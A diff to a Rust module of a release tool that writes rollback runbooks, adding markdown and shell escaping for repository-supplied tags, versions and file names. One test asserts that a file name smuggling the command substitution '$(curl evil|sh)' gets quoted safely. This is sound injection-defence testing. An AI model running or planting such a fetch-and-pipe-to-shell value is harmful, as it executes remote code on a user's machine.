@@ -20,7 +20,7 @@ use std::collections::{BTreeMap, BTreeSet, HashMap};
 use relkit_plugin_sdk::Settings;
 use relkit_plugin_sdk::commit::{self, Parsed, Preset};
 use relkit_plugin_sdk::forge::Links;
-use relkit_plugin_sdk::markdown::escape_html;
+use relkit_plugin_sdk::markdown::{code_span, escape_html, plain_text, replace_controls};
 use relkit_plugin_sdk::model::forge_name;
 use relkit_plugin_sdk::revert;
 use relkit_plugin_sdk::short_id;
@@ -132,27 +132,56 @@ pub struct Risk {
     pub summary: String,
 }
 
+/// A release. The `_md` fields hold the same text safe to place in markdown
+/// prose, headings and table cells ([`plain_text`]); the others hold it as
+/// written (tags come from the repository and may hold `|`, `<` or a
+/// backtick).
 #[derive(Debug, Clone, Serialize)]
 pub struct Point {
     pub tag: String,
+    pub tag_md: String,
     pub version: String,
+    pub version_md: String,
     pub commit_id: String,
     pub short_id: String,
     pub date: String,
     pub url: Option<String>,
 }
 
-#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+/// A changed path. The template also receives `path_md`, the path as a
+/// markdown code span ([`code_span`]: a file name may hold backticks or a
+/// newline), made when the data is serialized: a release can change 50,000
+/// paths.
+#[derive(Debug, Clone, PartialEq, Eq)]
 pub struct PathEntry {
     pub path: String,
     /// `added`, `modified` or `deleted` (net over the release).
     pub change: &'static str,
 }
 
+impl PathEntry {
+    pub fn new(path: &str, change: &'static str) -> Self {
+        Self { path: path.to_string(), change }
+    }
+}
+
+impl Serialize for PathEntry {
+    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
+        use serde::ser::SerializeStruct;
+        let mut s = serializer.serialize_struct("PathEntry", 3)?;
+        s.serialize_field("path", &self.path)?;
+        s.serialize_field("path_md", &code_span(&self.path))?;
+        s.serialize_field("change", self.change)?;
+        s.end()
+    }
+}
+
 #[derive(Debug, Clone, Serialize)]
 pub struct Item {
     pub short_id: String,
     pub commit_url: Option<String>,
+    /// The commit's words as markdown: HTML escaped outside code, control
+    /// characters replaced.
     pub text: String,
 }
 
@@ -208,12 +237,41 @@ pub struct RollbackData {
 /// A value as one word of a POSIX shell command: as is when it is plainly
 /// safe, else single-quoted. File names come from commits, and the runbook
 /// is meant to be pasted into a shell.
+///
+/// A value with a control character (a file name may hold a newline) is
+/// written in dollar-single-quotes instead (`$'a\nb'`: POSIX.1-2024, bash,
+/// zsh, ksh), with the control characters as escapes, so that every command
+/// stays on one line of its code block and still names the file.
 pub fn sh(value: &str) -> String {
     let plain = !value.is_empty()
         && value.chars().all(|c| {
             c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '/' | '-' | ':' | '@' | '%' | '+' | '=' | ',')
         });
-    if plain { value.to_string() } else { format!("'{}'", value.replace('\'', "'\\''")) }
+    if plain {
+        value.to_string()
+    } else if value.chars().any(char::is_control) {
+        let mut out = String::from("$'");
+        for c in value.chars() {
+            match c {
+                '\\' => out.push_str("\\\\"),
+                '\'' => out.push_str("\\'"),
+                '\n' => out.push_str("\\n"),
+                '\t' => out.push_str("\\t"),
+                '\r' => out.push_str("\\r"),
+                c if c.is_control() => {
+                    let mut buf = [0; 4];
+                    for b in c.encode_utf8(&mut buf).bytes() {
+                        out.push_str(&format!("\\x{b:02x}"));
+                    }
+                }
+                c => out.push(c),
+            }
+        }
+        out.push('\'');
+        out
+    } else {
+        format!("'{}'", value.replace('\'', "'\\''"))
+    }
 }
 
 /// The configured value (quoted for the shell), or a visible `<placeholder>`.
@@ -287,20 +345,25 @@ fn decide_kind(config: &Config, scan: &Scan) -> (Kind, String) {
         KindSetting::Library => (Kind::Library, "`[rollback] kind = \"library\"`.".to_string()),
         KindSetting::Auto => {
             if let Some(e) = &scan.service {
-                (Kind::Service, format!("`{}` is {}.", e.path, e.what))
+                (Kind::Service, format!("{} is {}.", code_span(&e.path), e.what))
             } else if config.names_a_deployment() {
                 (Kind::Service, "`[rollback]` names what deploys it.".to_string())
             } else if let Some(first) = scan.packages.first() {
                 let docs = scan
                     .ignored_dockerfile
                     .as_ref()
-                    .map(|d| format!(" (`{d}` does not count: it builds documentation or tooling, not the project)"))
+                    .map(|d| {
+                        format!(
+                            " ({} does not count: it builds documentation or tooling, not the project)",
+                            code_span(d)
+                        )
+                    })
                     .unwrap_or_default();
                 (
                     Kind::Library,
                     format!(
-                        "the repository has package manifests (`{}`) and nothing that deploys it{docs}.",
-                        first.path
+                        "the repository has package manifests ({}) and nothing that deploys it{docs}.",
+                        code_span(&first.path)
                     ),
                 )
             } else {
@@ -329,7 +392,7 @@ pub fn build(
     let mut by_class: BTreeMap<Class, Vec<PathEntry>> = BTreeMap::new();
     for (path, change) in &net {
         if let Some(class) = classifier.classify(path) {
-            by_class.entry(class).or_default().push(PathEntry { path: path.to_string(), change: change_name(*change) });
+            by_class.entry(class).or_default().push(PathEntry::new(path, change_name(*change)));
         }
     }
 
@@ -356,7 +419,7 @@ pub fn build(
             breaking_changes.push(Item {
                 short_id: short_id(&c.id).to_string(),
                 commit_url: links.commit(&c.id),
-                text: escape_html(b.text.lines().next().unwrap_or("")),
+                text: replace_controls(&escape_html(b.text.lines().next().unwrap_or(""))),
             });
         }
         if let Some(of) = &p.revert {
@@ -374,14 +437,16 @@ pub fn build(
             reverted_releases.push(Item {
                 short_id: short_id(&c.id).to_string(),
                 commit_url: links.commit(&c.id),
-                text: escape_html(&text),
+                text: replace_controls(&escape_html(&text)),
             });
         }
     }
 
     let release_point = Point {
         tag: release.tag.clone(),
+        tag_md: plain_text(&release.tag),
         version: release.version.clone(),
+        version_md: plain_text(&release.version),
         commit_id: release.commit_id.clone(),
         short_id: short_id(&release.commit_id).to_string(),
         date: release.date.clone(),
@@ -389,7 +454,9 @@ pub fn build(
     };
     let previous = release.previous.as_ref().map(|t| Point {
         tag: t.name.clone(),
+        tag_md: plain_text(&t.name),
         version: t.version.clone(),
+        version_md: plain_text(&t.version),
         commit_id: t.commit_id.clone(),
         short_id: short_id(&t.commit_id).to_string(),
         date: t.date.clone(),
@@ -426,7 +493,7 @@ pub fn build(
         heads: &heads,
         tree: tree_paths,
         previous: prev_tag.as_deref().zip(worktree.as_deref()),
-        release_tag: &release.tag,
+        release_tag_md: &release_point.tag_md,
     });
 
     let ctx = Ctx {
@@ -437,6 +504,10 @@ pub fn build(
         project: project.as_deref(),
         prev_tag: prev_tag.as_deref(),
         prev_version: previous.as_ref().map(|p| p.version.as_str()),
+        tag_md: &release_point.tag_md,
+        version_md: &release_point.version_md,
+        prev_md: previous.as_ref().map(|p| p.tag_md.as_str()),
+        prev_version_md: previous.as_ref().map(|p| p.version_md.as_str()),
         worktree: worktree.as_deref(),
         revert: &revert_commands,
         by_class: &by_class,
@@ -517,6 +588,12 @@ struct Ctx<'a> {
     project: Option<&'a str>,
     prev_tag: Option<&'a str>,
     prev_version: Option<&'a str>,
+    /// The release's tag and version, and the previous ones, for markdown
+    /// prose ([`plain_text`]); the fields above are for commands ([`sh`]).
+    tag_md: &'a str,
+    version_md: &'a str,
+    prev_md: Option<&'a str>,
+    prev_version_md: Option<&'a str>,
     worktree: Option<&'a str>,
     revert: &'a [String],
     by_class: &'a BTreeMap<Class, Vec<PathEntry>>,
@@ -553,9 +630,9 @@ impl Ctx<'_> {
 /// The redeploy of the previous tag through the forge's pipeline, with its
 /// notes; `None` without a previous release.
 fn redeploy(ctx: &Ctx<'_>) -> Option<(Vec<String>, Vec<String>)> {
-    let prev = ctx.prev_tag?;
+    let prev_word = sh(ctx.prev_tag?);
+    let prev = ctx.prev_md?;
     let repo = cli_repo(ctx.links, ctx.project).map(|r| format!(" --repo {}", sh(&r))).unwrap_or_default();
-    let prev_word = sh(prev);
     Some(match ctx.repository.forge {
         ForgeKind::Github => {
             let workflow = placeholder_or(&ctx.config.workflow, "deploy-workflow.yml");
@@ -563,7 +640,9 @@ fn redeploy(ctx: &Ctx<'_>) -> Option<(Vec<String>, Vec<String>)> {
                 vec![format!("gh workflow run {workflow} --ref {prev_word}{repo}")],
                 vec![format!(
                     "The workflow needs a `workflow_dispatch` trigger. To re-run the run that deployed {prev} instead: \
-                     `gh run list --branch {prev_word}{repo}` and `gh run rerun <run-id>{repo}`."
+                     {} and {}.",
+                    code_span(&format!("gh run list --branch {prev_word}{repo}")),
+                    code_span(&format!("gh run rerun <run-id>{repo}"))
                 )],
             )
         }
@@ -572,8 +651,9 @@ fn redeploy(ctx: &Ctx<'_>) -> Option<(Vec<String>, Vec<String>)> {
             // `glab ci retry` retries a job, found by id or by name in a pipeline.
             vec![format!(
                 "This starts a new pipeline for the tag {prev}; run its deploy job if it is manual. To re-run the \
-                 deploy job of the original pipeline instead: `glab ci list --ref {prev_word}{repo}` and \
-                 `glab ci retry <deploy-job> --pipeline-id <pipeline-id>{repo}`."
+                 deploy job of the original pipeline instead: {} and {}.",
+                code_span(&format!("glab ci list --ref {prev_word}{repo}")),
+                code_span(&format!("glab ci retry <deploy-job> --pipeline-id <pipeline-id>{repo}"))
             )],
         ),
         ForgeKind::Unknown => (Vec::new(), vec![format!("Re-run the deployment of the tag {prev} in your CI system.")]),
@@ -582,7 +662,7 @@ fn redeploy(ctx: &Ctx<'_>) -> Option<(Vec<String>, Vec<String>)> {
 
 fn service_steps(ctx: &Ctx<'_>, migrations: &migrate::Migrations) -> Vec<Step> {
     let mut steps = Vec::new();
-    let tag = &ctx.release.tag;
+    let tag = ctx.tag_md;
 
     // 1. The database, before the previous code runs against it.
     if !migrations.tools.is_empty() {
@@ -615,7 +695,7 @@ fn service_steps(ctx: &Ctx<'_>, migrations: &migrate::Migrations) -> Vec<Step> {
 
     // 2. One way back for the service.
     let mut gitops_reverted = false;
-    if let Some(prev) = ctx.prev_tag {
+    if let Some(prev) = ctx.prev_md {
         let (step, reverted) = service_step(ctx, prev);
         gitops_reverted = reverted;
         steps.push(step);
@@ -654,7 +734,7 @@ fn service_steps(ctx: &Ctx<'_>, migrations: &migrate::Migrations) -> Vec<Step> {
         if let (Some(wt), Some(prev)) = (ctx.worktree, ctx.prev_tag) {
             for dir in dirs {
                 step.blocks.push(Block::new(
-                    format!("Plan and apply the configuration of {prev} in `{dir}`:"),
+                    format!("Plan and apply the configuration of {} in {}:", plain_text(prev), code_span(&dir)),
                     vec![format!(
                         "(cd {} && terraform init && terraform plan -out=rollback.tfplan && terraform apply rollback.tfplan)",
                         sh(&format!("{wt}/{dir}"))
@@ -670,13 +750,15 @@ fn service_steps(ctx: &Ctx<'_>, migrations: &migrate::Migrations) -> Vec<Step> {
 }
 
 /// The service's way back; `true` when it also reverted the branch (GitOps).
+/// `prev` is the previous tag for markdown ([`plain_text`]).
 fn service_step(ctx: &Ctx<'_>, prev: &str) -> (Step, bool) {
+    let tag = ctx.tag_md;
     let mut step = Step::new("service", format!("Return the service to {prev}"));
     let ns = ctx.namespace();
     for class in [Class::Helm, Class::Kubernetes, Class::Docker, Class::Ci] {
         step.files.extend(ctx.files(class));
     }
-    step.files.extend(ctx.scan.manifests.iter().map(|m| PathEntry { path: m.path.clone(), change: "modified" }));
+    step.files.extend(ctx.scan.manifests.iter().map(|m| PathEntry::new(&m.path, "modified")));
     step.files.sort_by(|a, b| a.path.cmp(&b.path));
     step.files.dedup_by(|a, b| a.path == b.path);
 
@@ -708,7 +790,7 @@ fn service_step(ctx: &Ctx<'_>, prev: &str) -> (Step, bool) {
             suspend,
             vec![act(Target::Service, Effect::Hold)],
         ));
-        step.blocks.push(ctx.revert_block(&format!("Revert {} in git:", ctx.release.tag)));
+        step.blocks.push(ctx.revert_block(&format!("Revert {tag} in git:")));
         step.blocks.push(Block::new(
             "Resume, and reconcile from the reverted source now instead of at the next interval:",
             resume.into_iter().chain(reconcile).collect(),
@@ -716,9 +798,11 @@ fn service_step(ctx: &Ctx<'_>, prev: &str) -> (Step, bool) {
         ));
         if let Some((name, cns)) = &flagger {
             step.notes.push(format!(
-                "Flagger runs {prev} through the canary analysis of `{name}` (namespace {cns}) like any new version; \
+                "Flagger runs {prev} through the canary analysis of {} (namespace {}) like any new version; \
                  to promote it at once, set `spec.skipAnalysis: true` on the Canary in the revert commit and back to \
-                 `false` afterwards."
+                 `false` afterwards.",
+                code_span(name),
+                code_span(cns)
             ));
         }
         return (step, true);
@@ -744,8 +828,7 @@ fn service_step(ctx: &Ctx<'_>, prev: &str) -> (Step, bool) {
             title: "roll back in Argo CD now, then revert in git".to_string(),
             when: format!(
                 "when every minute counts. {auto_note}: Argo CD refuses `app rollback` while auto-sync is on, so turn it \
-                 off first and back on only after the revert is pushed (else it syncs {} again).",
-                ctx.release.tag
+                 off first and back on only after the revert is pushed (else it syncs {tag} again)."
             ),
             blocks: vec![
                 Block::new(
@@ -757,7 +840,7 @@ fn service_step(ctx: &Ctx<'_>, prev: &str) -> (Step, bool) {
                     ],
                     vec![act(Target::Service, Effect::Hold), act(Target::Service, Effect::ToPrevious)],
                 ),
-                ctx.revert_block(&format!("Revert {} in git:", ctx.release.tag)),
+                ctx.revert_block(&format!("Revert {tag} in git:")),
                 Block::new(
                     "Once the revert is pushed, turn auto-sync back on (if it was on):",
                     vec![format!("argocd app set {app} --sync-policy automated")],
@@ -770,7 +853,7 @@ fn service_step(ctx: &Ctx<'_>, prev: &str) -> (Step, bool) {
             title: "revert in git and sync".to_string(),
             when: "when the revert can be pushed now: git and the cluster never disagree.".to_string(),
             blocks: vec![
-                ctx.revert_block(&format!("Revert {} in git:", ctx.release.tag)),
+                ctx.revert_block(&format!("Revert {tag} in git:")),
                 Block::new(
                     "Sync the Application and wait until it is healthy:",
                     vec![format!("argocd app sync {app}"), format!("argocd app wait {app} --health")],
@@ -785,9 +868,8 @@ fn service_step(ctx: &Ctx<'_>, prev: &str) -> (Step, bool) {
     let (redeploy_commands, redeploy_notes) = redeploy(ctx).unwrap_or_default();
     let mut undo: Vec<Block> = Vec::new();
     let mut undo_when = format!(
-        "when {}'s deploy is the last one on the platform (nothing was deployed after it): it is the fastest, and \
-         needs no pipeline.",
-        ctx.release.tag
+        "when {tag}'s deploy is the last one on the platform (nothing was deployed after it): it is the fastest, and \
+         needs no pipeline."
     );
     let helm = ctx.by_class.contains_key(&Class::Helm) || ctx.config.helm_release.is_some();
     let k8s = ctx.files(Class::Kubernetes);
@@ -810,8 +892,9 @@ fn service_step(ctx: &Ctx<'_>, prev: &str) -> (Step, bool) {
     } else if let Some((name, cns)) = &flagger {
         undo.push(Block::new(
             format!(
-                "While the analysis of the Canary `{name}` is still running, and it has a `rollback` webhook to \
-                 flagger-loadtester: open the rollback gate, and Flagger routes all traffic back to the primary:"
+                "While the analysis of the Canary {} is still running, and it has a `rollback` webhook to \
+                 flagger-loadtester: open the rollback gate, and Flagger routes all traffic back to the primary:",
+                code_span(name)
             ),
             vec![format!(
                 "kubectl -n <loadtester-namespace> exec deploy/flagger-loadtester -- curl -s -d {} http://localhost:8080/rollback/open",
@@ -820,11 +903,10 @@ fn service_step(ctx: &Ctx<'_>, prev: &str) -> (Step, bool) {
             vec![act(Target::Service, Effect::ToPrevious)],
         ));
         undo_when = format!(
-            "while the canary analysis of {} is still running. After promotion the primary runs {} and there is \
-             nothing to roll back to: redeploy (Flagger then analyses {prev} like any new version; \
+            "while the canary analysis of {tag} is still running. After promotion the primary runs {tag} and there \
+             is nothing to roll back to: redeploy (Flagger then analyses {prev} like any new version; \
              `spec.skipAnalysis: true` on the Canary promotes it at once). Never `kubectl rollout undo` the \
-             `-primary` Deployment: Flagger owns it.",
-            ctx.release.tag, ctx.release.tag
+             `-primary` Deployment: Flagger owns it."
         );
     } else if helm {
         let r = placeholder_or(&ctx.config.helm_release, "helm-release");
@@ -860,10 +942,9 @@ fn service_step(ctx: &Ctx<'_>, prev: &str) -> (Step, bool) {
         }
         undo.push(Block::new(
             format!(
-                "Put the Kubernetes manifests back as they were at {prev}{} (objects {} added are deleted from the \
+                "Put the Kubernetes manifests back as they were at {prev}{} (objects {tag} added are deleted from the \
                  current checkout):",
                 if workload_is_manifests { "; this also returns the workload" } else { "" },
-                ctx.release.tag
             ),
             commands,
             actions,
@@ -911,9 +992,8 @@ fn service_step(ctx: &Ctx<'_>, prev: &str) -> (Step, bool) {
             label: "Or",
             title: format!("redeploy {prev}"),
             when: format!(
-                "when other deploys came after {}, the platform's history no longer has {prev}, or you want the \
-                 pipeline's checks.",
-                ctx.release.tag
+                "when other deploys came after {tag}, the platform's history no longer has {prev}, or you want the \
+                 pipeline's checks."
             ),
             blocks,
         });
@@ -923,7 +1003,8 @@ fn service_step(ctx: &Ctx<'_>, prev: &str) -> (Step, bool) {
         let version = ctx.prev_version.unwrap_or("<previous-version>");
         step.notes.push(format!(
             "This release changed how the container image is built: run the image built for {prev} \
-             (`{image}:{version}`), not a rebuild of it from today's base images."
+             ({}), not a rebuild of it from today's base images.",
+            code_span(&format!("{image}:{version}"))
         ));
     }
     if ctx.by_class.contains_key(&Class::Ci) {
@@ -973,6 +1054,22 @@ fn flux_objects(ctx: &Ctx<'_>) -> Vec<(&'static str, String, String)> {
     out
 }
 
+/// A PyPI project name normalized (PEP 503): lower case, each run of `-`,
+/// `_` and `.` one `-`.
+fn pep503(name: &str) -> String {
+    let mut out = String::with_capacity(name.len());
+    for c in name.chars() {
+        if matches!(c, '-' | '_' | '.') {
+            if !out.ends_with('-') {
+                out.push('-');
+            }
+        } else {
+            out.push(c.to_ascii_lowercase());
+        }
+    }
+    out
+}
+
 /// The message of `npm deprecate`.
 fn deprecation(version: &str, prev: Option<&str>) -> String {
     match prev {
@@ -983,10 +1080,12 @@ fn deprecation(version: &str, prev: Option<&str>) -> String {
 
 fn library_steps(ctx: &Ctx<'_>) -> Vec<Step> {
     let mut steps = Vec::new();
+    // Commands take the version as it is (quoted by `sh`), prose `_md`.
     let version = &ctx.release.version;
-    let tag = &ctx.release.tag;
+    let version_md = ctx.version_md;
+    let tag = ctx.tag_md;
     let prev = ctx.prev_version;
-    let mut withdraw = Step::new("withdraw", format!("Stop new installs of {version}"));
+    let mut withdraw = Step::new("withdraw", format!("Stop new installs of {version_md}"));
     withdraw.intro = Some(format!(
         "Nothing is deployed: {tag} is a package others install. Take the version back on its registry so that no \
          new build picks it up; builds that locked it keep working."
@@ -997,7 +1096,7 @@ fn library_steps(ctx: &Ctx<'_>) -> Vec<Step> {
     for p in &packages {
         let name = |placeholder: &str| p.name.as_deref().map_or_else(|| format!("<{placeholder}>"), sh);
         let target = Target::Package(p.path.clone());
-        let from = format!("`{}`", p.path);
+        let from = code_span(&p.path);
         match p.ecosystem {
             // cargo-yank(1): `cargo yank [options] --version version [crate]`.
             Ecosystem::Cargo => withdraw.blocks.push(Block::new(
@@ -1028,11 +1127,10 @@ fn library_steps(ctx: &Ctx<'_>) -> Vec<Step> {
                 let cd = if dir == "." { String::new() } else { format!("cd {} && ", sh(dir)) };
                 withdraw.blocks.push(Block::new(
                     format!(
-                        "Go module {} ({from}): retract v{version} in go.mod; the retraction takes effect when the \
-                         fix-forward release below publishes it:",
-                        p.name.as_deref().unwrap_or("")
-                    )
-                    .replace("module  (", "module ("),
+                        "Go module {}({from}): retract v{version_md} in go.mod; the retraction takes effect when \
+                         the fix-forward release below publishes it:",
+                        p.name.as_deref().map(|n| format!("{} ", plain_text(n))).unwrap_or_default()
+                    ),
                     vec![format!(
                         "({cd}go mod edit -retract={} && git commit -am {})",
                         sh(&format!("v{version}")),
@@ -1043,24 +1141,25 @@ fn library_steps(ctx: &Ctx<'_>) -> Vec<Step> {
             }
             // PEP 592: yanking is done on PyPI's web interface.
             Ecosystem::PyPi => {
+                // Without the name the address is code: `<project>` would be read as HTML.
                 let url = match &p.name {
-                    Some(n) => format!("https://pypi.org/manage/project/{}/release/{version}/", n.to_lowercase()),
-                    None => format!("https://pypi.org/manage/project/<project>/release/{version}/"),
+                    Some(n) => plain_text(&format!("https://pypi.org/manage/project/{}/release/{version}/", pep503(n))),
+                    None => code_span(&format!("https://pypi.org/manage/project/<project>/release/{version}/")),
                 };
                 withdraw.notes.push(format!(
-                    "PyPI ({from}): yank {version} in the web interface, {url} → Options → Yank, with the reason. \
+                    "PyPI ({from}): yank {version_md} in the web interface, {url} → Options → Yank, with the reason. \
                      pip then installs it only when it is pinned with `==`."
                 ));
             }
             Ecosystem::Maven => withdraw.notes.push(format!(
                 "Maven ({from}): Maven Central never removes or hides a version. Release the fix below and say in its \
-                 notes to skip {version}."
+                 notes to skip {version_md}."
             )),
         }
     }
     if packages.is_empty() {
         withdraw.notes.push(format!(
-            "relkit found no package manifest: yank or deprecate {version} on your registry (`cargo yank --version`, \
+            "relkit found no package manifest: yank or deprecate {version_md} on your registry (`cargo yank --version`, \
              `npm deprecate`, `gem yank -v`, a go.mod `retract`, PyPI's Yank button)."
         ));
     }
@@ -1090,8 +1189,8 @@ fn library_steps(ctx: &Ctx<'_>) -> Vec<Step> {
         packages.iter().map(|p| act(Target::Package(p.path.clone()), Effect::Forward)).collect(),
     ));
     fix.notes.push(format!(
-        "Tell users who already depend on {version}: pin the previous version{} or upgrade to the fix.",
-        prev.map(|p| format!(" ({p})")).unwrap_or_default()
+        "Tell users who already depend on {version_md}: pin the previous version{} or upgrade to the fix.",
+        ctx.prev_version_md.map(|p| format!(" ({p})")).unwrap_or_default()
     ));
     steps.push(fix);
     steps
@@ -1101,10 +1200,9 @@ fn verify(ctx: &Ctx<'_>, kind: Kind) -> Verify {
     let config = ctx.config;
     let mut commands = config.verify.clone();
     commands.extend(config.health_urls.iter().map(|u| format!("curl -fsS {}", sh(u))));
-    let version = &ctx.release.version;
     if kind == Kind::Library {
         let checklist = vec![
-            format!("The registry marks {version} as yanked or deprecated."),
+            format!("The registry marks {} as yanked or deprecated.", ctx.version_md),
             "A fresh install without a lock file resolves to the fix-forward release.".to_string(),
         ];
         return Verify { commands, dashboards: config.dashboards.clone(), checklist, confirm: Vec::new() };
@@ -1112,7 +1210,7 @@ fn verify(ctx: &Ctx<'_>, kind: Kind) -> Verify {
     let checklist = if commands.is_empty() && config.dashboards.is_empty() {
         vec![
             "The service's health endpoint answers 200 (set `[rollback] health-urls` to list them here).".to_string(),
-            format!("Error rate and latency are back to where they were before {}.", ctx.release.tag),
+            format!("Error rate and latency are back to where they were before {}.", ctx.tag_md),
             "SLO dashboards show no ongoing error-budget burn (set `[rollback] dashboards`).".to_string(),
             "The logs show no new errors since the rollback.".to_string(),
         ]
@@ -1157,14 +1255,14 @@ fn risk(
     reverts: &[Item],
     infra: [(&str, bool); 5],
 ) -> Risk {
-    let tag = &release.tag;
+    let tag = plain_text(&release.tag);
     if !risky.is_empty() {
         return Risk {
             level: "unsafe",
             label: "Unsafe",
             summary: format!(
                 "{tag} drops data ({}); no rollback brings it back, so restore it from a backup first.",
-                risky.iter().map(|r| format!("`{}`", r.path)).collect::<Vec<_>>().join(", ")
+                risky.iter().map(|r| r.path_md.as_str()).collect::<Vec<_>>().join(", ")
             ),
         };
     }
@@ -1339,5 +1437,7 @@ mod tests {
         assert_eq!(sh("k8s/$(curl evil|sh).yaml"), "'k8s/$(curl evil|sh).yaml'");
         assert_eq!(sh("it's"), "'it'\\''s'");
         assert_eq!(sh("*=img:1.0"), "'*=img:1.0'");
+        // a control character keeps the command on one line
+        assert_eq!(sh("a\nb's\\c\td\u{1b}\u{85}"), "$'a\\nb\\'s\\\\c\\td\\x1b\\xc2\\x85'");
     }
 }
